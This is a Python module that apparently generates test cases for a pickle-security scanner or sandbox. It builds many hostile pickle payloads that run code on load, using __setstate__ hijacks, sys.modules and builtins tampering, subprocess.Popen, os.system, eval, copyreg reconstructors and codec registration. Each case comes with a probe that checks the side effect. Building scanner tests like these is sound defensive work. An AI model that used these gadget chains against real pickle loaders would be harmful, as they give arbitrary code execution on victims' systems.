"""More roads to code: what is written into objects and modules, hostile classes."""
from assemble import Build, Call, Global, Items, Native, Raw, Several, at, value
from gadgets import BOUND, CMD, CODE, EVAL, SYSTEM, get

NAMESPACE = "types.SimpleNamespace"


def state():
    yield "build/setstate-attribute", Build(
        Build(Call("argparse.Namespace", by="newobj"), {"__setstate__": SYSTEM}), CMD
    )
    yield "build/setstate-slots", Build(
        Build(Call("argparse.Namespace", by="newobj"), (None, {"__setstate__": SYSTEM})), CMD
    )
    yield "build/setstate-eval", Build(Build(Call("argparse.Namespace", by="newobj"), {"__setstate__": EVAL}), CODE)
    yield "build/setstate-both", Build(
        Build(Call("argparse.Namespace", by="newobj"), ({"a": 1}, {"__setstate__": SYSTEM})), CMD
    )
    yield "build/setstate-namespace", Build(Build(Call(NAMESPACE), {"__setstate__": SYSTEM}), CMD)
    yield "build/setstate-partial", Build(Build(Call("argparse.Namespace", by="newobj"), {"__setstate__": BOUND}), None)
    yield "build/setstate-class", Build(Build(at("argparse.Namespace"), (None, {"__setstate__": SYSTEM})), CMD)
    yield "build/setstate-exception", Build(Build(Call("builtins.Exception"), {"__setstate__": SYSTEM}), {"a": 1})
    yield "build/setstate-setitem", Build(
        Build(Call("argparse.Namespace", by="newobj"), Items({}, [("__setstate__", SYSTEM)], one=True)), CMD
    )
    yield "build/class-attribute", Build(at("argparse.Namespace"), (None, {"__call__": SYSTEM})), {
        "probe": "'__call__' in vars(sys.modules['argparse'].Namespace)"
    }
    yield "build/class-new", Call(Build(at("argparse.Namespace"), (None, {"__new__": EVAL})), CODE)
    yield "build/class-init-subclass", Build(at("collections.OrderedDict"), (None, {"x": 1}))
    yield "build/module-attribute", Build(Call("importlib.import_module", "json"), (None, {"loads": SYSTEM})), {
        "probe": "sys.modules['json'].loads is os.system"
    }
    yield "build/module-dict", Build(Call("importlib.import_module", "json"), {"loads": SYSTEM}), {
        "probe": "sys.modules['json'].loads is os.system"
    }
    yield "build/module-global", Build(Global("shutil", "os"), (None, {"marker": 1})), {"probe": "os.marker == 1"}
    yield "build/module-by-name", Build(Global("xml", "sax"), {"parse": SYSTEM}), {
        "probe": "sys.modules['xml.sax'].parse is os.system"
    }
    yield "build/module-in-package", Build(at("os.path"), {"join": SYSTEM}), {"probe": "os.path.join is os.system"}
    yield "build/instance-global", Build(at("logging.root"), {"level": 77}), {
        "probe": "sys.modules['logging'].root.level == 77"
    }
    yield "build/environ", Items(at("os.environ"), [("MARKER", "1")]), {"probe": "os.environ.get('MARKER') == '1'"}
    yield "build/environ-one", Items(at("os.environ"), [("MARKER", "1")], one=True), {
        "probe": "os.environ.get('MARKER') == '1'"
    }
    yield "build/sys-modules", Items(at("sys.modules"), [("hidden", None)], one=True), {
        "probe": "'hidden' in sys.modules"
    }
    yield "build/sys-modules-swap", Several(
        Items(at("sys.modules"), [("markless", Call("importlib.import_module", "os"))]),
        Call(Global("markless", "system"), CMD),
    ), {"import": True}
    yield "build/sys-modules-swap-self", Several(
        Items(at("sys.modules"), [("sys", at("sys.modules"))]), Items(Global("sys", "get"), [])
    ), {"import": True}
    yield "build/sys-path", Items(at("sys.path"), items=["hidden"]), {"probe": "'hidden' in sys.path"}
    yield "build/sys-path-one", Items(at("sys.path"), items=["hidden"], one=True), {"probe": "'hidden' in sys.path"}
    yield "build/sys-meta_path", Items(at("sys.meta_path"), items=[None], one=True), {"probe": "None in sys.meta_path"}
    yield "build/builtins-dict", Items(at("builtins.__dict__"), [("hidden", 1)]), {"probe": "hidden == 1"}
    yield "build/copyreg-table", Items(at("copyreg.dispatch_table"), [(at("builtins.int"), SYSTEM)]), {
        "probe": "int in sys.modules['copyreg'].dispatch_table"
    }
    yield "build/list-global", Items(at("warnings.filters"), items=[1]), {
        "probe": "1 in sys.modules['warnings'].filters"
    }
    yield "build/atexit-like", Items(at("multiprocessing.util._finalizer_registry"), [((0, 0), BOUND)]), {
        "probe": "(0, 0) in sys.modules['multiprocessing.util']._finalizer_registry"
    }
    yield "build/module-newobj", Build(Call("types.ModuleType", "x"), {"__getattr__": SYSTEM})
    yield "build/py2-function", Build(
        Build(Call("argparse.Namespace", by="inst"), {"__setstate__": at("__builtin__.eval")}), Native(CODE)
    ), {"protocols": (0,)}
    yield "build/setattr-defaults", Build(at("shutil.copy"), (None, {"__defaults__": (1,)})), {
        "probe": "sys.modules['shutil'].copy.__defaults__ == (1,)"
    }
    yield "build/function-code", Build(at("shutil.copy"), (None, {"__code__": get("os.getenv", "__code__")})), {
        "probe": "sys.modules['shutil'].copy.__code__ is os.getenv.__code__"
    }
    yield "build/descriptor-set", Build(at("logging.Manager"), (None, {"x": 1})), {
        "probe": "sys.modules['logging'].Manager.x == 1"
    }
    yield "build/obj-then-append", Items(
        Build(Call("argparse.Namespace", by="newobj"), {"append": SYSTEM}), items=[CMD], one=True
    )
    yield "build/obj-then-extend", Items(
        Build(Call("argparse.Namespace", by="newobj"), {"extend": EVAL, "append": EVAL}), items=[CODE]
    )
    yield "build/obj-then-add", Several(Build(Call("argparse.Namespace", by="newobj"), {"add": EVAL}))
    for proto in (4, 5):
        yield "build/obj-then-additems/%d" % proto, Raw(
            b"\x80\x04" + value(Build(Call(NAMESPACE), {"add": EVAL}), proto) + b"(" + value(CODE, proto) + b"\x90."
        )
        yield "build/list-subclass-extend/%d" % proto, Items(
            Build(Call("collections.UserList"), {"extend": EVAL, "append": EVAL}), items=[CODE]
        )
    yield "build/exception-append", Items(Build(Call("builtins.Exception"), {"append": SYSTEM}), items=[CMD], one=True)
    yield "build/partial-append", Items(
        Build(Call("functools.partial", at("builtins.len")), (at("builtins.len"), (), {}, {"append": SYSTEM})),
        items=[CMD],
        one=True,
    )
    yield "build/slots-append", Items(
        Build(Call("argparse.Namespace", by="newobj"), (None, {"append": SYSTEM})), items=[CMD], one=True
    )
    yield "build/class-setitem", Items(
        Build(at("argparse.Namespace"), (None, {"append": SYSTEM})), items=[CMD], one=True
    )
    yield "build/shelf-setitem", Items(Call("shelve.open", "new.db"), [("a", 1)], one=True)
    yield "build/environ-instance", Items(
        Call("os._Environ", {}, at("builtins.str"), at("builtins.str"), at("builtins.str"), at("builtins.str")),
        [("A", "b")],
        one=True,
    )
    yield "build/mailbox-add", Items(Call("mailbox.Maildir", "newdir"), [("a", "b")], one=True)
    yield "build/thread-name", Build(Call("threading.Thread"), (None, {"name": "x"}))
    yield "build/property-setter", Build(
        Call("multiprocessing.Process", by="newobj"), (None, {"_config": {}, "daemon": True})
    )
    yield "build/defaultdict-setitems", Items(Call("collections.defaultdict", SYSTEM), [(1, 2)])
    yield "build/counter-update", Call(
        at("collections.Counter.update", 1), Call("collections.Counter"), Call("builtins.map", SYSTEM, [CMD])
    )
    yield "build/chainmap-setitem", Items(
        Call("collections.ChainMap", at("sys.modules")), [("hidden", None)], one=True
    ), {"probe": "'hidden' in sys.modules"}
    yield "build/userdict-over-modules", Items(
        Build(Call("collections.UserDict"), {"data": at("sys.modules")}), [("hidden", None)], one=True
    ), {"probe": "'hidden' in sys.modules"}
    yield "build/userlist-over-path", Items(
        Build(Call("collections.UserList"), {"data": at("sys.path")}), items=["hidden"], one=True
    ), {"probe": "'hidden' in sys.path"}
    yield "build/mappingproxy", Items(Call("types.MappingProxyType", at("sys.modules")), [("hidden", None)], one=True)
    yield "build/namespace-dict-over", Items(
        Build(Call("argparse.Namespace", by="newobj"), {"__dict__": at("builtins.__dict__")}), [("hidden", 1)], one=True
    )
    yield "build/append-eval-each", Items(Build(Call("types.SimpleNamespace"), {"append": EVAL}), items=[CODE, "1"])
    yield "build/cookie-load", Build(Call("http.cookies.SimpleCookie"), {"x": 1})


def classes():
    for by in ("newobj", "reduce", "newobj_ex"):
        yield "newobj/popen-" + by, Call("subprocess.Popen", ["touch", "executed"], by=by)
        yield "newobj/fileio-" + by, Call("_io.FileIO", "new.txt", "w", by=by)
        yield "newobj/open-path-" + by, Call("zipfile.ZipFile", "new.txt", "w", by=by)
        yield "newobj/cdll-" + by, Call("ctypes.CDLL", None, by=by)
        yield "newobj/socket-" + by, Call("socket.socket", by=by)
        yield "newobj/finalize-" + by, Call("weakref.finalize", at("os.path"), SYSTEM, CMD, by=by)
        yield "newobj/type-" + by, Call("builtins.type", "X", (), {"__setstate__": EVAL}, by=by)
    yield "newobj/type-call", Build(Call(Call("builtins.type", "X", (), {"__setstate__": EVAL})), CODE)
    yield "newobj/type-setstate-instance", Build(Call(Call("builtins.type", "X", (), {"__setstate__": BOUND})), 1)
    yield "newobj/type-eq", Call(
        "operator.eq", Call(Call("builtins.type", "X", (), {"__eq__": Call("functools.partialmethod", SYSTEM)})), CMD
    )
    yield "newobj/type-new", Call(Call("builtins.type", "X", (), {"__new__": SYSTEM, "__call__": SYSTEM}), 1)
    yield "newobj/type-getattr", Build(
        Call(Call("builtins.type", "X", (), {"__getattr__": Call("functools.partial", EVAL, CODE)})), 1
    )
    yield "newobj/type-del", Several(
        Call(Call("builtins.type", "X", (), {"__del__": Call("functools.partial", EVAL, CODE)})), 1
    )
    yield "newobj/type-len", Call("builtins.bool", Call(Call("builtins.type", "X", (), {"__len__": BOUND})))
    yield "newobj/type-hash", Items(
        {}, [(Call(Call("builtins.type", "X", (), {"__hash__": Call("functools.partial", EVAL, CODE)})), 1)]
    )
    yield "newobj/type-set_name", Call(
        "builtins.type", "X", (), {"a": Build(Call("argparse.Namespace"), {"__set_name__": SYSTEM})}
    )
    yield "newobj/type-init_subclass", Call(
        "builtins.type", "Y", (Call("builtins.type", "X", (), {"__init_subclass__": BOUND}),), {}
    )
    yield "newobj/enum", Call(at("enum.Enum", 1), "X", "a b")
    yield "newobj/new_class", Call("types.new_class", "X", (), {}, at("builtins.len"))
    yield "newobj/prepare_class", Call("types.prepare_class", "X")
    yield "newobj/namedtuple-source", Call("collections.namedtuple", "X", ["a"])
    yield "newobj/__build_class__", Call("builtins.__build_class__", BOUND, "X")
    yield "newobj/function-type", Call(Call("types.FunctionType", Call("builtins.compile", CODE, "x", "exec"), {}))
    yield "newobj/lambda-type", Call(
        Call("types.LambdaType", Call("builtins.compile", CODE, "x", "exec"), {"open": at("builtins.open")})
    )
    yield "newobj/function-class", Call(Call("builtins.type", at("shutil.copy")), 1)
    yield "newobj/reconstruct-popen", Call(
        "copyreg._reconstructor", at("argparse.Namespace"), at("subprocess.Popen"), ["touch", "executed"]
    )
    yield "newobj/reconstruct-fileio", Call("copyreg._reconstructor", at("_io.FileIO"), at("_io.FileIO"), "new.txt")
    yield "newobj/newobj-fileio", Build(Call("copyreg.__newobj__", at("_io.FileIO")), {"x": 1})
    yield "newobj/__newobj_ex__", Call("copyreg.__newobj_ex__", at("subprocess.Popen"), (["touch", "executed"],), {})
    yield "newobj/thread-subclass", Call(
        at("threading.Thread.run", 1),
        Build(Call("threading.Thread", by="newobj"), {"_target": SYSTEM, "_args": (CMD,), "_kwargs": {}}),
    )
    yield "newobj/timer-state", Call(
        at("timeit.Timer.timeit", 1), Build(Call("timeit.Timer", by="newobj"), {"inner": EVAL}), CODE
    )
    yield "newobj/codeop", Call(Call("codeop.Compile"), CODE, "x", "exec")
    yield "newobj/str-encode-errors", Several(Call("codecs.register_error", "hidden", SYSTEM), 1), {
        "probe": "__import__('codecs').lookup_error('hidden') is os.system"
    }
    yield "newobj/codec-register", Several(Call("codecs.register", EVAL), Call("codecs.lookup", "oct(1)"))
    yield "newobj/codec-encode-registered", Several(
        Call("codecs.register", SYSTEM), Call("codecs.encode", "x", "touch executed")
    )
    yield "newobj/codec-import", Call("codecs.lookup", "markermod"), {"import": True}
    yield "newobj/encodings-search", Call("encodings.search_function", "x")
    yield "newobj/logging-lazy", Call(
        at("logging.Handler.handle", 1),
        Build(Call("logging.Handler", by="newobj"), {"filters": [EVAL], "lock": None}),
        CODE,
    )
    yield "newobj/filterer", Call(
        at("logging.Filterer.filter", 1), Build(Call("logging.Filterer"), {"filters": [EVAL]}), CODE
    )
    yield "newobj/event-scheduler", Call(
        at("sched.scheduler.run", 1), Build(Call("sched.scheduler", by="newobj"), {"_queue": [], "x": 1})
    )
    yield "newobj/exitstack-close", Call(
        at("contextlib.ExitStack.close", 1),
        Build(Call("contextlib.ExitStack"), {"_exit_callbacks": Call("collections.deque", [(True, BOUND)])}),
    )
    yield "newobj/closing", Call(
        at("contextlib.closing.__exit__", 1),
        Call("contextlib.closing", Build(Call("argparse.Namespace"), {"close": BOUND})),
    )
    yield "newobj/context-callback", Call(
        at("contextlib.ContextDecorator.__call__", 1), Call("contextlib.nullcontext"), SYSTEM
    )
    yield "newobj/mock", Call(Call("unittest.mock.Mock", None, EVAL), CODE)
    yield "newobj/mock-return", Call(Call("unittest.mock.MagicMock", None, SYSTEM), CMD)
    yield "newobj/abstract-simple", Call(at("queue.Queue.put", 1), Build(Call("queue.Queue"), {"_put": EVAL}), CODE)
    yield "newobj/barrier-action", Call(at("threading.Barrier.wait", 1), Call("threading.Barrier", 1, BOUND))
    yield "newobj/local-init", Call("threading.local")
    yield "newobj/argparse-type", Call(
        at("argparse.ArgumentParser.parse_args", 1),
        Call("argparse.ArgumentParser"),
        [],
    )
    yield "newobj/optparse-callback", Call(
        at("optparse.Option.process", 1),
        Build(
            Call("optparse.Option", "-x"),
            {"action": "callback", "callback": SYSTEM, "callback_args": (), "callback_kwargs": {}},
        ),
        "-x",
        CMD,
        None,
        None,
    )
    yield "newobj/string-formatter", Call(
        at("string.Formatter.vformat", 1), Build(Call("string.Formatter"), {"get_field": EVAL}), CODE, (), {}
    )
    yield "newobj/pprint", Call(
        at("pprint.PrettyPrinter.pformat", 1), Build(Call("pprint.PrettyPrinter"), {"_format": EVAL}), CODE
    )
    yield "newobj/xml-parser", Call(
        at("xml.dom.pulldom.DOMEventStream.reset", 1),
        Build(Call("xml.dom.pulldom.DOMEventStream", by="newobj"), {"parser": 1}),
    )
    yield "newobj/reprlib", Call(
        at("reprlib.Repr.repr", 1), Build(Call("reprlib.Repr"), {"repr1": Call("functools.partial", EVAL, CODE)}), 1
    )
    yield "newobj/dataclass-replace", Call("dataclasses.replace", 1)
    yield "newobj/copy-reduce", Call("copy.copy", Build(Call("argparse.Namespace"), {"__copy__": BOUND}))
    yield "newobj/copy-reconstruct", Call("copy._reconstruct", 1, None, SYSTEM, (CMD,))
    yield "newobj/copy-deepcopy", Call("copy.deepcopy", Call("functools.partial", SYSTEM, CMD))
    yield "newobj/path-concrete", Call(at("pathlib.Path.touch", 1), Call("pathlib.PosixPath", "new.txt"))


def entries():
    for group in (state, classes):
        for each in group():
            options = {}
            for more in each[2:]:
                options.update(more)
            yield each[0], each[1], options
